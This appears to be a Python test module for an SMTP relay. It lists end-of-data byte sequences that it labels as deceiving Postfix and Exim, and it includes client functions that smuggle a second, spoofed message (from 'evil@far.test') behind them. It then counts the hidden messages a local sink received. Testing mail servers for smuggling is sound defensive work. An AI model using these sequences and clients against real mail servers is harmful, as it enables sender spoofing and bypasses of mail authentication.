"""Ends of data that some server takes for one, and a client that hides a message behind them.

The marks are those of the published tools (smtpsmug, SMTP-Smuggling-Tools) and PEERS part 2.
"""

import contextlib
from typing import Final

from postern_local.nexthop import SmtpSink
from tests.servers.mail import Dialogue, Reply

# Ends of data that deceive Postfix as Debian ships it.
DECEIVING: Final = {
    "lf-dot-lf": b"\n.\n",
    "lf-dot-crlf": b"\n.\r\n",
    "crlf-dot-lf": b"\r\n.\n",
    "crcrlf-dot-crcrlf": b"\r\r\n.\r\r\n",
}
# Those that deceive Exim too, once the message's first line ended in a bare LF.
DECEIVING_EXIM: Final = {name: DECEIVING[name] for name in ("lf-dot-lf", "lf-dot-crlf", "crlf-dot-lf")}
BARE: Final = DECEIVING | {
    "cr-dot-cr": b"\r.\r",
    "cr-dot-crlf": b"\r.\r\n",
    "cr-dot-lf": b"\r.\n",
    "lf-dot-cr": b"\n.\r",
    "crlf-dot-cr": b"\r\n.\r",
    "crlf-dot-crcrlf": b"\r\n.\r\r\n",
    "crcrlf-dot-crlf": b"\r\r\n.\r\n",
    "lf-lf-dot-crlf": b"\n\n.\r\n",
    "crlf-dot-lfcr": b"\r\n.\n\r",
}
NUL: Final = {
    "crlf-nul-dot-crlf": b"\r\n\0.\r\n",
    "crlf-dot-nul-crlf": b"\r\n.\0\r\n",
    "nul-crlf-dot-nul": b"\0\r\n.\0\r\n",
}
HARMLESS: Final = {
    "crlf-blank-dot-crlf": b"\r\n .\r\n",
    "crlf-dot-blank-crlf": b"\r\n. \r\n",
    "crlf-dot-dot-crlf": b"\r\n..\r\n",
    "crlf-dot-text-crlf": b"\r\n.x\r\n",
}


class Peer:
    """A mail server that relays to a sink."""

    def __init__(self, port: int, domain: str, sink: SmtpSink) -> None:
        self.port = port
        self.recipient = f"ann@{domain}"
        self._sink = sink

    def taken(self, name: str) -> int:
        """How many messages arrived that carry this mark's name."""
        return sum(f"Subject: {name}".encode() in path.read_bytes() for path in self._sink.messages())


def smuggle(host: str, port: int, recipient: str, name: str, mark: bytes, *, first_line_end: bytes = b"\r\n") -> Reply:
    """Send one message with a second one behind `mark`; the reply to the first."""
    commands = f"MAIL FROM:<evil@far.test>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n".encode()
    message = f"Subject: {name}\r\n\r\nsmuggled\r\n.\r\n".encode()
    with Dialogue(host, port) as client:
        client.greet()
        client.command("MAIL FROM:<bob@far.test>")
        client.command(f"RCPT TO:<{recipient}>")
        client.command("DATA", 354)
        with contextlib.suppress(OSError):
            client.send_raw(f"Subject: {name}".encode() + first_line_end + b"\r\nouter" + mark + commands + message)
        reply = client.read()
        if reply.code != 521:
            client.send("QUIT")
            with contextlib.suppress(AssertionError):
                while client.read().code != 221:
                    pass
        return reply


def smuggle_in_step(host: str, port: int, recipient: str, name: str, mark: bytes, first_line_end: bytes) -> None:
    """The same to a server that refuses a message which comes before its 354: the second one waits for it."""
    with Dialogue(host, port) as client:
        client.greet()
        client.command("MAIL FROM:<bob@far.test>")
        client.command(f"RCPT TO:<{recipient}>")
        client.command("DATA", 354)
        client.send_raw(f"Subject: {name}".encode() + first_line_end + b"\r\nouter" + mark)
        client.expect(250)
        client.command("MAIL FROM:<evil@far.test>")
        client.command(f"RCPT TO:<{recipient}>")
        client.command("DATA", 354)
        client.send_raw(f"Subject: {name}\r\n\r\nsmuggled\r\n.\r\n".encode())
        client.expect(250)
